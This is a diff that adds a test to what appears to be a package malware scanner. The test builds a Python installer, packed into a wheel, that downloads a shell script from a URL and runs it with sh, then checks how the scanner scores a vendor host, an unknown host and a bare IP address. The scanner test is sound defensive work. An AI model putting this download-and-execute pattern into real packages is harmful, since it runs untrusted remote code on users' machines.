@@ -437,3 +437,24 @@ test('a table that is written as a literal beside the code is data; received tex
   expect(await writing('line')).toMatchObject([{ class: 'malware', score: 10 }]);
   expect(await writing("'TABLE = ' + str(table) + line")).toMatchObject([{ class: 'malware', score: 10 }]);
 });
+
+test('on call the host of a vendor is known where its address has no path', async () => {
+  const installer = (address: string): string =>
+    python(
+      'import subprocess, tempfile, urllib.request',
+      'def install():',
+      "    with tempfile.NamedTemporaryFile('wb', suffix='.sh', delete=False) as f:",
+      `        f.write(urllib.request.urlopen('${address}').read())`,
+      "    subprocess.check_call(['sh', f.name])",
+    );
+
+  expect(await inspect('dropper', wheel({ 'pkg/a.py': installer('https://get.docker.com') }))).toMatchObject([
+    { class: 'suspicious', score: 4 },
+  ]);
+  expect(await inspect('dropper', wheel({ 'pkg/a.py': installer('https://get.tools.invalid') }))).toMatchObject([
+    { class: 'suspicious', score: 5 },
+  ]);
+  expect(await inspect('dropper', wheel({ 'pkg/a.py': installer('http://203.0.113.7') }))).toMatchObject([
+    { class: 'malware', score: 10 },
+  ]);
+});
